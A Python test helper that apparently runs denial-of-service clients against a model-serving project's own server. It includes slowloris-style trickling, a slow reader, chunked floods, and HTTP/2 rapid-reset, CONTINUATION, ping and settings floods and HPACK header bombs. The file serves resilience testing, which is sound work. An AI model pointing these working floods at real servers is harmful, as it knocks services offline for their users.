"""Hostile clients in a process of their own: `attackers.py KIND HOST PORT NUMBERS…`.

Each kind prints one line of JSON when it is ready (where others wait for that) and one at its end.
"""

from __future__ import annotations

import asyncio
import json
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator

import uvloop

from marserve.protocols import h2_frames as h2
from marserve.protocols.h2_frames import ErrorCode
from marserve.protocols.h2_headers import encoded

Address = tuple[str, int]
_POST = b"POST /predictions/echo HTTP/1.1\r\nHost: x\r\n"
_SLOW_POST = _POST.replace(b"echo", b"slow")
"""Of another model: the answers are large, and it takes a while to make a hundred of them."""
_FIELDS = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/org.pytorch.serve.grpc.inference.InferenceAPIsService/Predictions"),
    (b":authority", b"x"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]


def _tell(**told: object) -> None:
    print(json.dumps(told), flush=True)


# --- HTTP -----------------------------------------------------------------------------------------


async def idle(address: Address, count: int) -> None:
    """Connect and do nothing until all are closed; says when it is ready, and at the end."""
    connections = []
    for start in range(0, count, 500):
        batch = [asyncio.open_connection(*address) for _ in range(min(500, count - start))]
        connections += await asyncio.gather(*batch)
    _tell(ready=len(connections))
    await asyncio.gather(*(_to_the_end(reader) for reader, _ in connections))
    _tell(closed=len(connections))


async def _to_the_end(reader: asyncio.StreamReader) -> bytes:
    try:
        return await reader.read()
    except ConnectionResetError:
        return b""


async def slow(address: Address, heads: int, bodies: int, readers: int) -> None:
    """Trickle heads, trickle bodies, and do not read answers; how long each kind was let be."""
    kinds = [*[_slow_head] * heads, *[_slow_body] * bodies, *[_slow_reader] * readers]
    lives: dict[str, list[float]] = {}

    async def one(attack: Callable[[Address], Awaitable[float]]) -> None:
        lives.setdefault(attack.__name__[1:], []).append(await attack(address))

    await asyncio.gather(*(one(kind) for kind in kinds))
    _tell(**{name: [round(max(times), 2), len(times)] for name, times in lives.items()})


async def _slow_head(address: Address) -> float:
    return await _trickle(address, _POST, (b"X: y\r\n" for _ in range(1000)))


async def _slow_body(address: Address) -> float:
    head = _POST + b"Content-Length: 1000000\r\n\r\n"
    return await _trickle(address, head, (b"x" for _ in range(1000)))


async def _trickle(address: Address, head: bytes, pieces: Iterator[bytes]) -> float:
    reader, writer = await asyncio.open_connection(*address)
    end = asyncio.ensure_future(_to_the_end(reader))
    began = time.monotonic()
    writer.write(head)
    for piece in pieces:
        await asyncio.wait([end], timeout=1.0)  # at the end the connection closes, too
        if end.done() or writer.transport.is_closing():
            break
        writer.write(piece)
    took_s = time.monotonic() - began
    writer.transport.abort()
    return took_s


async def _slow_reader(address: Address) -> float:
    """Ask for more than the kernel keeps, and take nothing of it."""
    loop = asyncio.get_running_loop()
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await loop.sock_connect(sock, address)
    body = b"0 big 6000000"
    await loop.sock_sendall(sock, _SLOW_POST + b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
    await loop.sock_recv(sock, 1)  # the answer begins
    began = time.monotonic()
    while time.monotonic() - began < 120:
        await asyncio.sleep(0.25)
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            break
        try:
            sock.send(b"G")  # a connection that is gone says so
        except BlockingIOError:
            continue
        except OSError:
            break
    sock.close()
    return time.monotonic() - began


async def chunks(address: Address, requests: int, count: int) -> None:
    """Send requests of so many chunks; the statuses that came back."""
    block = b"1\r\nx\r\n" * 10_000
    statuses: Counter[str] = Counter()
    for _ in range(requests):
        reader, writer = await asyncio.open_connection(*address)
        end = asyncio.ensure_future(_to_the_end(reader))
        writer.write(_POST + b"Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n")
        try:
            for _ in range(0, count, 10_000):
                writer.write(block)
                await writer.drain()
            writer.write(b"0\r\n\r\n")
        except OSError:
            pass
        got = await asyncio.wait_for(end, 20.0)
        statuses[got[9:12].decode() or "none"] += 1
        writer.transport.abort()
    _tell(statuses=statuses)


# --- HTTP/2 ---------------------------------------------------------------------------------------


def _resets(stream_id: int) -> bytes:
    headers = h2.frame(h2.HEADERS, h2.END_HEADERS, stream_id, encoded(_FIELDS))
    return headers + h2.rst_stream(stream_id, ErrorCode.CANCEL)


def _provoked(stream_id: int) -> bytes:
    """The server is made to reset the stream: its window grows by nothing."""
    headers = h2.frame(h2.HEADERS, h2.END_HEADERS, stream_id, encoded(_FIELDS))
    return headers + h2.window_update(stream_id, 0)


def _overflowed(stream_id: int) -> bytes:
    headers = h2.frame(h2.HEADERS, h2.END_HEADERS, stream_id, encoded(_FIELDS))
    return headers + h2.window_update(stream_id, h2.MAX_WINDOW)


def _pings(stream_id: int) -> bytes:
    return h2.ping(b"12345678", is_answer=False)


def _settings(stream_id: int) -> bytes:
    return h2.settings({h2.INITIAL_WINDOW_SIZE: stream_id & 0xFFFF})


def _empty_data(stream_id: int) -> bytes:
    headers = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, encoded(_FIELDS)) if stream_id == 1 else b""
    return headers + h2.frame(h2.DATA, 0, 1)


def _continuations(stream_id: int) -> bytes:
    first = h2.frame(h2.HEADERS, 0, 1, b"") if stream_id == 1 else b""
    return first + h2.frame(h2.CONTINUATION, 0, 1, b"")


def _header_bombs(stream_id: int) -> bytes:
    """A field of 4 KiB goes into the table once, and is named 1000 times by one byte each."""
    bomb = b"\x40\x01a" + b"\x7f\xa1\x1f" + b"v" * 4000 + b"\xbe" * 1000
    return h2.frame(h2.HEADERS, h2.END_HEADERS, stream_id, bomb)


FLOODS: dict[str, Callable[[int], bytes]] = {
    "rapid resets": _resets,
    "provoked resets": _provoked,
    "overflowed windows": _overflowed,
    "pings": _pings,
    "settings": _settings,
    "empty data": _empty_data,
    "continuations": _continuations,
    "header bombs": _header_bombs,
}


async def flood(address: Address, name: str, per_s: int, seconds: float) -> None:
    """Send one kind of frames at `per_s`, on a new connection whenever one is closed."""
    made = FLOODS[name]
    ends, sent, connections = time.monotonic() + seconds, 0, 0
    began = time.monotonic()
    while time.monotonic() < ends:
        try:
            reader, writer = await asyncio.open_connection(*address)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        connections += 1
        end = asyncio.ensure_future(_to_the_end(reader))
        writer.write(h2.PREFACE + h2.settings({}))
        stream_id = 1
        try:
            while time.monotonic() < ends and not end.done():
                due = int((time.monotonic() - began) * per_s) - sent
                if due <= 0:
                    await asyncio.sleep(0.002)
                    continue
                count = min(due, 200)
                frames = b"".join(made(stream_id + 2 * one) for one in range(count))
                stream_id += 2 * count
                sent += count
                writer.write(frames)
                await writer.drain()
        except OSError:
            pass
        writer.transport.abort()
        await end
    _tell(sent=sent, connections=connections)


def main() -> None:
    """Run one kind."""
    kind, host, port, *numbers = sys.argv[1:]
    address = host, int(port)
    match kind:
        case "idle":
            work = idle(address, int(numbers[0]))
        case "slow":
            work = slow(address, *map(int, numbers))
        case "chunks":
            work = chunks(address, *map(int, numbers))
        case _:
            work = flood(address, kind, int(numbers[0]), float(numbers[1]))
    uvloop.run(work)


if __name__ == "__main__":
    main()
